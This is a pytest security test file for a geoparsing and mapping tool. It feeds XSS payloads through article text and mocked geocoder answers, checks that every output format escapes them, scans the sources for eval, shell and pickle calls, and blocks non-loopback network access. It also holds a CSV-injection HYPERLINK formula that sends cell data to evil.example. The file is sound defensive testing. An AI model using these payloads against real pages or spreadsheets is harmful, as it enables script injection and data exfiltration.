"""Security: hostile text in articles and geocoder answers, dangerous calls in the sources,
and no network traffic beyond 127.0.0.1.

XSS payloads go where article text reaches the outputs: names after a feature head, the
dateline, the byline, sentences with distance claims, and a geocoder's answer (name,
display name, OSM type). Every output format must keep them inert: JSON stays valid and
keeps the text as it was; markdown carries no raw tags; JUnit stays well-formed XML; the
map HTML never contains a payload unescaped. Whether a browser runs anything is checked by
the map engineer's Playwright tests (tests/test_browser_map.py).
"""

from __future__ import annotations

import ast
import ipaddress
import json
import re
import socket
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

import geomap.geoparse._geocoder
from tests.support.hardening import (
    EXAMPLE,
    ROOT,
    assert_clean_stderr,
    run_cli,
    warm_gazetteer,  # noqa: F401 - fixture
)
from tests.support.nominatim_server import Answer, NominatimServer, place

pytestmark = pytest.mark.usefixtures("warm_gazetteer")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "javascript:alert(3)",
    '"><svg onload=alert(4)>',
    "${alert(5)}",
    "`alert(6)`",
    "</script><script>alert(7)</script>",
    "'-alert(8)-'",
    "<!--<img src=x onerror=alert(9)>-->",
]
# Payloads that are markup: none of these may appear verbatim in HTML or markdown.
MARKUP = [p for p in PAYLOADS if "<" in p or '"' in p]
RAW_TAG = re.compile(r"<\s*/?\s*(script|img|svg|iframe)\b", re.I)

FILLER = (
    "The talks lasted several hours and ended without a joint statement. Officials from "
    "both sides described the atmosphere as businesslike and said further meetings were "
    "planned for the autumn. Analysts said the visit was mainly symbolic. "
) * 6


def _article() -> str:
    p = PAYLOADS
    return (
        f"By Jane Doe {p[1]} and John Roe {p[3]}\n\n"
        f"BERLIN{p[0]}, June 3 (Reuters) - Potsdam lies about 25 kilometres south-west of "
        f"Berlin {p[4]}, the mayor {p[5]} said on Monday.\n\n"
        f"The fire started in the village of Xyzzyville{p[6]} near Potsdam, officials "
        f"said. {p[2]} The village of Qwertzhausen {p[7]} lies 40 km from Berlin.\n\n"
        f"{FILLER}{p[8]}\n"
    )


@pytest.fixture
def article(tmp_path) -> Path:
    from geomap.text import read_path

    p = tmp_path / "xss.txt"
    p.write_text(_article(), encoding="utf-8")
    text = read_path(p).text
    assert all(x in text for x in PAYLOADS), "precondition: read as text, not as HTML"
    return p


@pytest.fixture
def html_article(tmp_path) -> Path:
    """An HTML page whose *visible text* holds the payloads (entity-escaped in the source)."""
    import html

    body = "".join(f"<p>{html.escape(par)}</p>" for par in _article().split("\n\n"))
    p = tmp_path / "xss.html"
    p.write_text(f"<!DOCTYPE html><html><body><article>{body}</article></body></html>", "utf-8")
    return p


def _outputs(capsys, tmp_path: Path, art: Path, *extra: str) -> dict[str, str]:
    out = {}
    for command, fmt in [("check", "json"), ("check", "markdown"), ("check", "junit"),
                         ("places", "json"), ("check", "text"), ("places", "csv")]:  # fmt: skip
        target = tmp_path / f"{command}.{fmt}"
        run = run_cli(capsys, command, "--format", fmt, "-o", target, *extra, art)
        assert run.code in (0, 1), run.err
        assert_clean_stderr(run)
        out[f"{command}.{fmt}"] = target.read_text(encoding="utf-8")
    target = tmp_path / "map.html"
    run = run_cli(capsys, "map", "-o", target, *extra, art)
    assert run.code == 0, run.err
    out["map.html"] = target.read_text(encoding="utf-8")
    return out


def _assert_inert(out: dict[str, str], *, expect_in_json: list[str]) -> None:
    # JSON: valid, and what it reports keeps the text exactly
    for key in ("check.json", "places.json"):
        doc = json.loads(out[key])
        assert doc["documents"]
    flat = json.dumps(json.loads(out["places.json"]), ensure_ascii=False)
    for s in expect_in_json:
        assert json.dumps(s, ensure_ascii=False)[1:-1] in flat, s
    # markdown: no raw tags, no javascript: links
    md = out["check.markdown"]
    assert not RAW_TAG.search(md), RAW_TAG.search(md)
    assert "](javascript:" not in md.replace(" ", "")
    # JUnit: well-formed XML with no element smuggled in
    root = ET.fromstring(out["check.junit"].encode("utf-8"))
    assert {el.tag for el in root.iter()} <= {"testsuites", "testsuite", "testcase", "failure",
                                             "error", "skipped", "system-out", "properties",
                                             "property"}  # fmt: skip
    # HTML: no payload verbatim anywhere; no injected tag, handler or URL
    page = out["map.html"]
    for p in MARKUP + ["${alert(5)}", "`alert(6)`"]:
        assert p not in page, p
    assert not re.search(r"<(img|svg)\b[^>]*\bon(error|load)\s*=", page, re.I)
    assert not re.search(r"<script>\s*alert", page, re.I)
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*javascript:""", page, re.I)


def test_payloads_in_article_text_stay_inert(capsys, tmp_path, article):
    out = _outputs(capsys, tmp_path, article)
    places = json.loads(out["places.json"])["documents"][0]["places"]
    assert {"Potsdam", "Berlin"} <= {p["mention"] for p in places}  # the article was analysed
    _assert_inert(out, expect_in_json=[])


def test_payloads_in_html_visible_text_stay_inert(capsys, tmp_path, html_article):
    out = _outputs(capsys, tmp_path, html_article)
    _assert_inert(out, expect_in_json=[])


@pytest.fixture
def online(monkeypatch, tmp_path):
    monkeypatch.delenv("GEOMAP_OFFLINE", raising=False)
    cache = tmp_path / "cache" / "geocode-cache.sqlite"
    monkeypatch.setattr(geomap.geoparse._geocoder, "default_cache_path", lambda: cache)


HOSTILE_NAME = "Xyzzy<img src=x onerror=alert(2)>ville`${alert(5)}`"


def _hostile_record(**kw) -> dict:
    rec = place(HOSTILE_NAME, 52.40, 13.05, type="village", **kw)
    rec["display_name"] = '<script>alert(1)</script>, "><svg onload=alert(4)>, Deutschland'
    return rec


def test_payloads_in_geocoder_answers_stay_inert(capsys, tmp_path, article, online):
    with NominatimServer() as srv:
        rec = _hostile_record(osm_type='"><svg onload=alert(4)>')
        for q in ("Xyzzyville", "Qwertzhausen"):
            srv.script(q, Answer.hit(rec))
        out = _outputs(
            capsys, tmp_path, article, "--geocoder-domain", srv.domain, "--geocoder-scheme", "http"
        )
        assert {r.query for r in srv.requests} >= {"Xyzzyville", "Qwertzhausen"}
    places = json.loads(out["places.json"])["documents"][0]["places"]
    geo = [p for p in places if p["source"] == "geocoder"]
    assert geo and all(p["name"] == HOSTILE_NAME for p in geo)  # JSON keeps the text intact
    _assert_inert(out, expect_in_json=[HOSTILE_NAME])
    from geomap.maps import text as escape

    assert escape(HOSTILE_NAME) in out["map.html"]  # it did reach the map, escaped


def test_hostile_country_code_from_the_geocoder(capsys, tmp_path, article, online):
    with NominatimServer() as srv:
        srv.script("Xyzzyville", Answer.hit(_hostile_record(country_code="<script>")))
        out = _outputs(
            capsys, tmp_path, article, "--geocoder-domain", srv.domain, "--geocoder-scheme", "http"
        )
    _assert_inert(out, expect_in_json=[HOSTILE_NAME])


# --- dangerous calls in the sources --------------------------------------------------------


def _sources() -> list[Path]:
    return sorted(p for d in ("geomap", "gazetteer") for p in (ROOT / d).rglob("*.py"))


def _call_name(node: ast.Call) -> str:
    f = node.func
    parts = []
    while isinstance(f, ast.Attribute):
        parts.append(f.attr)
        f = f.value
    if isinstance(f, ast.Name):
        parts.append(f.id)
    return ".".join(reversed(parts))


def test_sources_have_no_eval_exec_shell_or_pickle():
    assert len(_sources()) > 20
    found = []
    for path in _sources():
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = _call_name(node)
            where = f"{path.relative_to(ROOT)}:{node.lineno} {name}"
            if name in ("eval", "exec", "compile", "os.system", "os.popen"):
                found.append(where)
            if name in ("__import__", "importlib.import_module") and not (
                node.args and isinstance(node.args[0], ast.Constant)
            ):  # importing a name that comes from data
                found.append(where)
            if name.split(".")[-1] in ("load", "loads") and name.split(".")[0] in (
                "pickle", "marshal", "shelve", "dill", "cloudpickle"
            ):  # fmt: skip
                found.append(where)
            if name.startswith("subprocess.") or name in ("Popen", "run", "call", "check_output"):
                for kw in node.keywords:
                    if kw.arg == "shell" and not (
                        isinstance(kw.value, ast.Constant) and kw.value.value is False
                    ):
                        found.append(where + " shell=True")
            if name in ("yaml.load",) and not any(k.arg == "Loader" for k in node.keywords):
                found.append(where)
    assert found == []


def test_sources_do_not_import_pickle():
    bad = []
    for path in _sources():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = []
            if isinstance(node, ast.Import):
                names = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom) and node.module:
                names = [node.module]
            bad += [f"{path.relative_to(ROOT)}:{node.lineno} {n}" for n in names
                    if n.split(".")[0] in ("pickle", "marshal", "shelve", "dill")]  # fmt: skip
    assert bad == []


# --- no network beyond 127.0.0.1 -----------------------------------------------------------


@pytest.fixture
def connections(monkeypatch):
    """Record every socket connection; refuse (and record) any outside loopback."""
    seen: list[object] = []
    refused: list[object] = []
    real_connect = socket.socket.connect
    real_connect_ex = socket.socket.connect_ex
    real_gai = socket.getaddrinfo

    def allowed(address) -> bool:
        if isinstance(address, (str, bytes)):  # AF_UNIX
            return True
        host = address[0]
        try:
            return ipaddress.ip_address(host).is_loopback
        except ValueError:
            return host == "localhost"

    def guard(self, address):
        seen.append(address)
        if not allowed(address):
            refused.append(address)
            raise ConnectionRefusedError(f"test guard: no network outside 127.0.0.1 ({address})")
        return real_connect(self, address)

    def guard_ex(self, address):
        seen.append(address)
        if not allowed(address):
            refused.append(address)
            return 111
        return real_connect_ex(self, address)

    def gai(host, *args, **kwargs):
        if host not in (None, "localhost") and not allowed((host, 0)):
            refused.append(("getaddrinfo", host))
            raise socket.gaierror(f"test guard: no name lookups ({host})")
        return real_gai(host, *args, **kwargs)

    monkeypatch.setattr(socket.socket, "connect", guard)
    monkeypatch.setattr(socket.socket, "connect_ex", guard_ex)
    monkeypatch.setattr(socket, "getaddrinfo", gai)
    return refused


def test_the_guard_itself_refuses_outside_addresses(connections):
    with socket.socket() as s, pytest.raises(ConnectionRefusedError):
        s.connect(("192.0.2.1", 80))  # TEST-NET-1
    assert connections == [("192.0.2.1", 80)]


def test_default_runs_make_no_outside_connection(capsys, tmp_path, connections):
    art = tmp_path / "a.txt"
    art.write_text(
        EXAMPLE.read_text(encoding="utf-8") + "\nThe fire started in the village of Xyzzyville.\n",
        encoding="utf-8",
    )
    for argv in (
        ["check", "--format", "json", "-o", tmp_path / "c.json", art],
        ["places", "--format", "csv", "-o", tmp_path / "p.csv", art],
        ["map", "-o", tmp_path / "m.html", art],
    ):
        run = run_cli(capsys, *argv)
        assert run.code in (0, 1), run.err
    assert connections == []


def test_the_map_references_no_remote_resource_by_default(capsys, tmp_path):
    art = tmp_path / "a.txt"
    art.write_text(EXAMPLE.read_text(encoding="utf-8"), encoding="utf-8")
    out = tmp_path / "m.html"
    assert run_cli(capsys, "map", "-o", out, art).code == 0
    page = out.read_text(encoding="utf-8")
    # Links a user may click (the attribution) are fine; loading a script, style, image or
    # font from elsewhere is not: the default map opens offline.
    remote = re.findall(
        r"""<(?:script|img|iframe)\b[^>]*\bsrc\s*=\s*["']?(?:https?:)?//""", page, re.I
    )
    remote += re.findall(r"""<link\b[^>]*\bhref\s*=\s*["']?(?:https?:)?//""", page, re.I)
    remote += re.findall(r"""url\(\s*["']?(?:https?:)?//""", page, re.I)
    assert remote == []


def test_geocoder_on_loopback_passes_the_guard(capsys, tmp_path, connections, online):
    art = tmp_path / "a.txt"
    art.write_text("The fire started in the village of Xyzzyville.\n", encoding="utf-8")
    with NominatimServer() as srv:
        srv.script("Xyzzyville", Answer.hit(place("Xyzzyville", 52.1, 13.1, type="village")))
        run = run_cli(
            capsys, "places", "--format", "json", "--geocoder-domain", srv.domain,
            "--geocoder-scheme", "http", art,
        )  # fmt: skip
    assert run.code == 0
    assert connections == []
    [p] = [p for p in json.loads(run.out)["documents"][0]["places"] if p["mention"] == "Xyzzyville"]
    assert p["source"] == "geocoder"


def test_geocoder_names_cannot_inject_spreadsheet_formulas(capsys, tmp_path, online):
    """A CSV cell starting with ``=``, ``+``, ``-`` or ``@`` is a formula in Excel and
    LibreOffice (OWASP "CSV injection"); text from a geocoder must not start one."""
    import csv
    import io

    art = tmp_path / "a.txt"
    art.write_text("The fire started in the village of Xyzzyville.\n", encoding="utf-8")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with NominatimServer() as srv:
        srv.script("Xyzzyville", Answer.hit(place(evil, 52.1, 13.1, type="village")))
        run = run_cli(
            capsys, "places", "--format", "csv", "--geocoder-domain", srv.domain,
            "--geocoder-scheme", "http", art,
        )  # fmt: skip
    assert run.code == 0
    rows = list(csv.DictReader(io.StringIO(run.out)))
    [row] = [r for r in rows if r["mention"] == "Xyzzyville"]
    assert evil[1:] in row["name"]  # the text is kept ...
    for col in ("mention", "name", "kind", "id", "source", "reason", "role"):
        assert not row[col].startswith(("=", "+", "@", "\t", "\r")), (col, row[col])
        assert not re.match(r"-[^\d]", row[col]), (col, row[col])  # ... but not as a formula
